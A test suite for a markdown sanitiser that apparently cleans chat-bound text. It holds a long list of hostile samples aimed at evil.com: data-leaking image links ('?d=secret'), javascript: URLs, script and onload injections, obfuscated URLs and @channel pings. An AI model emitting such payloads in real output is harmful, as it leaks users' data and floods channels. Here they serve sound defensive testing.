// What the sanitiser takes out, what it leaves as it was, and that it comes to rest.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitise, sanitisePlain } from '../../src/safety/sanitise.js';
import { dangers } from '../support/dangers.js';

const HOSTILE = [
  '![pixel](https://evil.com/p.png?d=secret)',
  '![pixel][r]\n\n[r]: https://evil.com/p.png',
  '![][r]\n\n[r]: <https://evil.com/p.png> "t"',
  '[click](https://evil.com)',
  '[click](//evil.com/x)',
  '[click](/relative?d=1)',
  '[click](javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:x)',
  '[click](<https://evil.com/a b>)',
  '[click](https://good.com@evil.com)',
  `[click](https://evil.com/?q=${'x'.repeat(2000)})`,
  '[click][r]\n\n[r]: https://evil.com',
  '[r][]\n\n[r]: https://evil.com',
  '[r]\n\n[r]: https://evil.com',
  '[1]\n\n[1]: https://evil.com',
  '> [x][q]\n>\n> [q]: https://evil.com',
  '- [x][q]\n\n  [q]: https://evil.com',
  '[https://bank.com](https://evil.com)',
  '[![alt](https://evil.com/i.png)](https://evil.com)',
  '<https://evil.com>',
  '<https://evil.com/a|click>',
  '<mailto:a@evil.com>',
  '<a@evil.com>',
  'https://evil.com/x?d=secret',
  'HTTPS://EVIL.COM',
  'ftp://evil.com',
  'slack://open?team=1',
  'msteams://x.y',
  'see www.evil.com now',
  'see evil.com/path?d=1',
  'evil.com',
  'write to a@evil.com',
  'https://xn--e1awd7f.com/',
  'https://еvil.com',
  'http://127.0.0.1:8080/x',
  'http://[::1]/x',
  '10.0.0.1:8080/x',
  'https&colon;//evil.com',
  'https&#58;//evil.com',
  'https&#x3a;&#x2f;/evil.com',
  'https:\\/\\/evil.com',
  'evil\\.com',
  'https://ev\u200bil.com',
  'ht\u00adtps://evil.com',
  'https://evil\u202e.com',
  'java\u0000script:alert(1)',
  'mailto:a@evil.com?body=secret',
  '<img src="https://evil.com/p.png">',
  '<img\nsrc=https://evil.com/p.png\n>',
  '<a href="https://evil.com">x</a>',
  '<script>fetch("https://evil.com")</script>',
  '<iframe src="//evil.com"></iframe>',
  '<style>@import url(https://evil.com)</style>',
  '<div>\n<img src=https://evil.com>\n</div>',
  '<!-- https://evil.com -->',
  '<svg/onload=fetch(1)>',
  '<![CDATA[ https://evil.com ]]>',
  '<?php https://evil.com ?>',
  '<sc<script>ript>https://evil.com</script>',
  'note[^1]\n\n[^1]: https://evil.com',
  '@channel look',
  '@here',
  '@everyone!',
  '(@channel)',
  '@@here',
  '\\@channel',
  '&commat;channel',
  '@\u200bchannel',
  '<!here>',
  '<!channel|x>',
  '<!everyone>',
  '<!subteam^S123|@ops>',
  '<@U123>',
  '<@U123|bob>',
  '<#C123>',
  '<!date^1^{date}^https://evil.com|x>',
  '&lt;!here&gt;',
  '<&#33;here>',
  '\\<!here>',
  '<at>Bob</at>',
  '<at id="1">Bob</at>',
  '&lt;at&gt;Bob&lt;/at&gt;',
  '```https://evil.com\nx\n```',
  '```js [x](https://evil.com)\nx\n```',
  '| a |\n|---|\n| https://evil.com |',
  '| a |\n|---|\n| ![x](https://evil.com) |',
  '# https://evil.com',
  'a\nhttps://evil.com\n===',
  '`a`evil.com`b`',
  '` evil.com ``',
  '\\`evil.com`',
  '[`x`](https://evil.com) ` https://evil.com',
  '\u{e0068}\u{e0069}hidden',
  '&#x202e;moc.live',
  '&#xE0041;x',
  '**https://evil.com**',
  '_www.evil.com_',
  '~~evil.com~~',
  'x](https://evil.com)',
  '[x](https://evil.com',
  '[x] (https://evil.com)',
  '[a]: https://evil.com\n[a]: https://evil.org\n\n[a]',
];

describe('sanitise', () => {
  it.each([...new Set(HOSTILE)])('disarms %j', (sample) => {
    for (const text of [
      sample,
      `Setup checks the slack. ${sample} And more.`,
      `- a\n  - ${sample}\n\n> ${sample}`,
    ]) {
      const out = sanitise(text);
      expect(dangers(out)).toEqual([]);
      expect(sanitise(out)).toBe(out);
    }
  });

  it('has at least 60 different hostile samples', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
  });

  it.each([
    'The slack of `u1/q[3]` is negative [1][2].',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Tcl variable
    'Set snake_case and my_other_name, 2 * 3 * 4, bus[31:0], $var and ${CLK} [1].',
    '1. one\n   - two\n     - three\n2. four',
    '- a\n\n  b\n\n- c',
    '| Option | Use |\n| :-- | --: |\n| `-from` | start [1] |\n| `a\\|b` | x |',
    '```tcl\nset x [get_ports a*] ;# see https://example.com/a @here <img>\n```',
    'Use `report_checks -path_delay max` and `https://example.com/x`.',
    '**bold**, *slanted*, ~~gone~~ and `code`.',
    '# Title\n\n> quote\n\n---\n\nend',
    'A hard\\\nbreak, a \\* star, 5 < 6 & 7 > 2, e.g. 1.2.3, 0.5ns, v1.8V, i.e. this.',
    '[x] is a box; [12] and a[3] are not links.',
    '时序[1]。下一句。',
  ])('leaves %j as it is', (text) => {
    expect(sanitise(text)).toBe(text);
  });

  it.each([
    ['See [the guide](https://example.com/guide) first.', 'See the guide first.'],
    ['See https://example.com/guide?x=1 first.', 'See `example.com` first.'],
    ['See README.md and docs/flow.md:42.', 'See `README.md` and `docs/flow.md:42`.'],
    ['Give <net> a name.', 'Give \\<net> a name.'],
    ['Fixed in [2](https://example.com).', 'Fixed in [2].'],
    ['Ask @here or <!channel> now', 'Ask here or  now'],
    ['<b>Bold</b> text', 'Bold text'],
    ['a\r\nb\u2028c', 'a\nb\nc'],
    ['', ''],
    ['\n\n \n', ''],
  ])('writes %j as %j', (text, expected) => {
    expect(sanitise(text)).toBe(expected);
  });

  it('survives what is meant to choke a parser', () => {
    const bombs = [
      '['.repeat(9e5),
      '>'.repeat(9e5),
      '*a_ '.repeat(9e4),
      '`a``'.repeat(9e4),
      '<'.repeat(9e5),
      'a.bc'.repeat(9e4),
    ];
    for (const bomb of bombs) {
      const out = sanitise(bomb);
      expect(out.length).toBeLessThanOrEqual(20_000);
      expect(sanitise(out) === out).toBe(true);
    }
  }, 120_000);

  it('lets nothing through, whatever the pieces are put together to', () => {
    const piece = fc.constantFrom(
      ...HOSTILE,
      'word',
      ' ',
      '\n',
      '\n\n',
      '`',
      '``',
      '```\n',
      '\\',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      '*',
      '_',
      '|',
      '- ',
      '> ',
      '# ',
      '    ',
      '\t',
      'https://',
      'www.',
      'evil.com',
      '@',
      'here',
      '&amp;',
      '&lt;',
      '&#64;',
      ':',
      '//',
      '.',
      'md',
      '~~',
      '[1]',
    );
    const markdown = fc.oneof(
      fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join('')),
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.string({ maxLength: 60 }),
    );
    fc.assert(
      fc.property(markdown, (text) => {
        const out = sanitise(text);
        expect(dangers(out)).toEqual([]);
        expect(sanitise(out)).toBe(out);
      }),
      { numRuns: 5_000 },
    );
  }, 120_000);
});

describe('sanitisePlain', () => {
  it('gives one quiet line', () => {
    expect(sanitisePlain('a\n b\u200b  <!here> @channel https://evil.com/x?d=1')).toBe(
      'a b channel evil.com',
    );
    expect(sanitisePlain('README.md > Setup *fast*')).toBe('README.md > Setup *fast*');
  });
});
